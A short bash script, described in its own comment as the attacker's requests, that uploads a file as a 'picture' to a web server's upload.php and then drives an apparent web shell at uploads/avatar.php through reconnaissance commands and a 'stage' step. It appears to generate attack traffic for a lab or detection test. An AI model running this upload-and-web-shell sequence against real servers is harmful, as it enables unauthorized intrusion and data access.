#!/bin/bash
# The attacker's requests: the upload, then one request a step.
host=$1 own=$2 file=$3
ask() { curl -s -m 10 --interface "$own" "$@" >/dev/null; }
ask -F "picture=@$file" "http://$host/upload.php"
sleep 7
for step in who users list; do
  ask "http://$host/uploads/avatar.php?do=$step"
  sleep 3
done
ask "http://$host/uploads/avatar.php?do=stage"
